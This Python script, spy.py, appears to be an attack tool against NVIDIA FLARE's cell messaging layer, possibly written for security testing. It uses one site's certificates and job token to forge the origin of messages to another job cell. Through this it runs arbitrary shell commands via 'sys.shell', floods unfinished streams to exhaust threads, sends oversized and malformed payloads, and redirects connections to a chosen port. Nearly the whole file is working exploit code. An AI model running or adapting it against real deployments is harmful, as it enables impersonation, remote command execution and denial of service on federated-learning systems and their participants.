"""A site with a valid certificate that sends others calls in a chosen name.

``python spy.py STARTUP PORT ORIGIN TARGET WHAT``, with a token in the environment,
connects as a part of its own site and sends the job cell ``TARGET`` a call as if
``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing;
or the shell command ``WHAT``, as the server could;
or, for ``-``, a message without an end;
or, for a number with a colon before it, messages that make NVFlare connect to that
port, store a file, leave the server, and wait for their rest.
NVFlare's own classes do all the rest.
"""

import os
import sys
import time
from pathlib import Path

from nvflare.apis.job_launcher_spec import JobProcessEnv
from nvflare.apis.utils.decomposers import flare_decomposers
from nvflare.collab.runtime.defs import CALL_PROTOCOL_VERSION as VERSION
from nvflare.collab.runtime.defs import MSG_CHANNEL, MSG_TOPIC, CallHeaderKey
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import (
    CellChannel,
    CellChannelTopic,
    Encoding,
    MessageHeaderKey,
)
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import (
    STREAM_CHANNEL,
    STREAM_DATA_TOPIC,
    StreamDataType,
    StreamHeaderKey,
)
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.fuel.utils.fobs import lobs
from nvflare.fuel.utils.fobs.datum import Datum
from nvflare.private.admin_defs import Message as Command
from nvflare.private.fed.utils.fed_utils import fobs_initialize


def say(what):
    sys.stdout.write(f"{what}\n")
    sys.stdout.flush()
    os._exit(0)


UNFINISHED = 200
"""Messages without an end: more than NVFlare has threads."""


def send_unfinished(cell, target, count):
    for number in range(count):
        piece = {
            StreamHeaderKey.CHANNEL: CellChannel.SERVER_COMMAND,
            StreamHeaderKey.TOPIC: "get_task",
            StreamHeaderKey.STREAM_ID: number,
            StreamHeaderKey.SEQUENCE: 0,
            StreamHeaderKey.SIZE: 1000,
            StreamHeaderKey.DATA_TYPE: StreamDataType.CHUNK,
        }
        message = Message(piece, b"1")
        cell.core_cell.fire_and_forget(
            STREAM_CHANNEL, STREAM_DATA_TOPIC, target, message
        )


def abuse(cell, site, target, port):
    send = cell.core_cell.fire_and_forget
    encoding = {StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
    unreadable = Message(encoding, b"unreadable")
    cell.send_blob(CellChannel.SERVER_COMMAND, "submit_update", target, unreadable)
    send(CellChannel.CELLNET, CellChannelTopic.Bye, target, Message())
    time.sleep(1.0)
    send_unfinished(cell, target, UNFINISHED)
    file = lobs.dump_to_bytes({"file": Datum.file_datum(__file__)})
    encoding = {MessageHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
    send("none", "none", "server", Message(encoding, file))
    url = f"tcp://localhost:{port}?connection_security=clear"
    address = {MessageHeaderKey.CONN_URL: url, MessageHeaderKey.FROM_CELL: site}
    cell.core_cell.add_outgoing_request_filter(
        "*", "*", lambda message: message.add_headers(address)
    )
    send("none", "none", "server", Message())
    time.sleep(1.0)
    say("sent")


def main(startup, port, origin, target, what):
    flare_decomposers.register()
    fobs_initialize()
    site = Path(startup).parent.name
    credentials = {
        "ca_cert": f"{startup}/rootCA.pem",
        "client_cert": f"{startup}/client.crt",
        "client_key": f"{startup}/client.key",
        "connection_security": "mtls",
    }
    url = f"grpc://localhost:{port}"
    cell = Cell(f"{site}.spy", url, secure=True, credentials=credentials)
    cell.core_cell.start()
    token, signature = JobProcessEnv.AUTH_TOKEN, JobProcessEnv.TOKEN_SIGNATURE
    ssid = os.environ[JobProcessEnv.SSID]
    names = (site, os.environ[token], os.environ[signature], ssid)
    set_add_auth_headers_filters(cell, *names)

    def forge(message):
        message.set_header(MessageHeaderKey.ORIGIN, origin)

    cell.core_cell.add_outgoing_request_filter("*", "*", forge)
    while "server" not in cell.core_cell.agents:
        time.sleep(0.1)
    if what.startswith(":"):
        abuse(cell, site, target, what[1:])
    if what == "-":
        send_unfinished(cell, target, 1)
        time.sleep(1.0)
        say("sent")
    if what.isdigit():
        blob = Message(payload=bytes(int(what) * 2**20))
        sent = cell.send_blob(CellChannel.RETURN_ONLY, "collab:call", target, blob)
        try:
            say(sent.result(60.0))
        except Exception as error:
            say(error)
    if not Path(what).exists():
        command = new_cell_message({}, Command("sys.shell", what))
        reply = cell.send_request("admin", "sys.shell", target, command, timeout=4.0)
        say(reply.payload and reply.payload.body)
    victim = target.split(".")[0]
    headers = {
        CallHeaderKey.PROTOCOL_VERSION: VERSION,
        CallHeaderKey.TARGET_NAME: f"{victim}.client",
        CallHeaderKey.METHOD_NAME: "answer",
    }
    arguments = {"call": Path(what).read_bytes()}
    payload = {"kwargs": arguments}
    reply = cell.send_request(
        channel=MSG_CHANNEL,
        topic=MSG_TOPIC,
        target=target,
        request=new_cell_message(headers, payload),
        timeout=4.0,
    )
    say(reply.headers.get(MessageHeaderKey.RETURN_CODE))


if __name__ == "__main__":
    main(*sys.argv[1:])
